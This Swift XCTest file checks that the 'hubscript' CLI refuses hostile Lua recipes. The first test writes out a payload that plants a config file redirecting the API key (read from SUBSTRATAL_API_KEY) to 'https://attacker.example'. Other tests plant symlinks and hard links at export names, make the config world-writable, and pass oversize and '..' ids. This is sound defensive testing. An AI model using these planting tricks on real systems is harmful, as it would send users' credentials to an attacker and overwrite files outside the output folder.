import Foundation
import XCTest

/// Hostile recipes against the built binary: files a recipe could plant and
/// oversize or dot-segment ids. Each asserts the exit code and message.
final class PlantedFileTests: XCTestCase {
    /// The first line of stderr that starts with `error:`.
    func errorLine(_ r: CLIHarness.Result) -> String {
        r.stderr.split(separator: "\n").first { $0.hasPrefix("error:") }.map(String.init) ?? r.stderr
    }

    func testAnExportCannotPlantAConfigFileInTheCurrentFolder() throws {
        let cli = try CLIHarness(testCase: self)
        let work = cli.root.appendingPathComponent("work")
        // A CSV header without `,` or `"` is valid Lua: this file would send the key elsewhere.
        try cli.file("work/plant.lua", """
            recipe { name = "plant" }
            export.csv("hubscript.config.lua", { { ["return { profiles = { evil = { hub_url = 'https://attacker.example', api_key_env = 'SUBSTRATAL_API_KEY' } } } --"] = 1 } })
            """)
        let r = try cli.run(["run", "plant.lua", "--out", "."], cwd: work)
        XCTAssertEqual(r.status, 1, r.output)
        XCTAssertEqual(errorLine(r), "error: plant.lua:2: bad argument #1 to 'export.csv' (export.csv writes only .csv files, got 'hubscript.config.lua'; a name without an extension gets .csv)")
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: work.path), ["plant.lua"])
    }

    func testLinksPlantedAtAnExportsNameAreRefusedAndTheOutsideFileIsUnchanged() throws {
        let cli = try CLIHarness(testCase: self)
        let outside = try cli.file("outside/secret.txt", "keep me\n")
        let out = cli.root.appendingPathComponent("out")
        try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
        XCTAssertEqual(link(outside, out.appendingPathComponent("hard.jsonl").path), 0)
        XCTAssertEqual(symlink(outside, out.appendingPathComponent("soft.jsonl").path), 0)
        for (name, what) in [("hard.jsonl", "has 2 hard links (other names share its contents)"), ("soft.jsonl", "is a symbolic link")] {
            try cli.file("export.lua", """
                recipe { name = "export" }
                export.jsonl("\(name)", { { overwritten = true } })
                """)
            let r = try cli.run(["run", "export.lua", "--out", out.path])
            XCTAssertEqual(r.status, 1, r.output)
            XCTAssertEqual(errorLine(r), "error: export.lua:2: export.jsonl: \(out.path)/\(name) \(what); an export replaces only a plain file, so it was left untouched (remove it, or choose another export name)")
            XCTAssertEqual(try String(contentsOfFile: outside, encoding: .utf8), "keep me\n")
        }
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: out.path).sorted(), ["hard.jsonl", "soft.jsonl"])
    }

    func testAConfigWritableByOthersIsRefused() throws {
        let cli = try CLIHarness(testCase: self)
        let work = cli.root.appendingPathComponent("work")
        let config = try cli.file("work/hubscript.config.lua", "return { profiles = { dev = { sandbox = true } } }")
        XCTAssertEqual(chmod(config, 0o666), 0)
        try cli.file("work/hello.lua", #"recipe { name = "hello" } print("hello")"#)
        let r = try cli.run(["run", "hello.lua"], cwd: work)
        XCTAssertEqual(r.status, 2, r.output)
        XCTAssertEqual(r.stdout, "")
        // Read at the command's start, before the recipe: the command's own error line.
        XCTAssertEqual(r.stderr, "hubscript run: config \(config): is writable by its group and others (mode 0666); hubscript reads only a configuration that nobody but you (or root) can change, since it decides where your credentials are sent. Fix: chmod go-w \(config)\n")
        XCTAssertEqual(chmod(config, 0o600), 0)
        let fixed = try cli.run(["run", "hello.lua"], cwd: work)
        XCTAssertEqual(fixed.status, 0, fixed.output)
        XCTAssertEqual(fixed.stdout, "hello\n")
    }

    func testAHugeIdIsRefusedQuicklyAndTheJournalDoesNotGrow() throws {
        let cli = try CLIHarness(testCase: self)
        try cli.file("huge.lua", """
            recipe { name = "huge", needs = { "users.manage" } }
            local big = string.rep("x", 2 * 1024 * 1024)
            for _ = 1, 60 do pcall(hub.users.suspend, big, { reason = "x" }) end
            hub.users.suspend(big)
            """)
        let start = Date()
        let r = try cli.run(["run", "huge.lua"])
        let seconds = Date().timeIntervalSince(start)
        XCTAssertEqual(r.status, 1, r.output)
        XCTAssertEqual(errorLine(r), "error: huge.lua:4: bad argument #1 to 'hub.users.suspend' (id is 2097152 bytes; the most is 255)")
        XCTAssertLessThan(seconds, 30, "took \(seconds) s")
        let journal = cli.stateDir.appendingPathComponent("journal")
        var bytes = 0
        for name in try FileManager.default.contentsOfDirectory(atPath: journal.path) {
            bytes += (try FileManager.default.attributesOfItem(atPath: journal.appendingPathComponent(name).path)[.size] as? NSNumber)?.intValue ?? 0
        }
        XCTAssertLessThan(bytes, 512 << 10, "the journal holds \(bytes) bytes")
    }

    func testADotDotIdIsRefused() throws {
        let cli = try CLIHarness(testCase: self)
        try cli.file("dots.lua", """
            recipe { name = "dots", needs = { "users.manage" } }
            hub.users.suspend("..")
            """)
        let r = try cli.run(["run", "dots.lua"])
        XCTAssertEqual(r.status, 1, r.output)
        XCTAssertEqual(errorLine(r), "error: dots.lua:2: bad argument #1 to 'hub.users.suspend' (an id such as usr_… expected, got '..' ('.' and '..' are not ids))")
    }
}
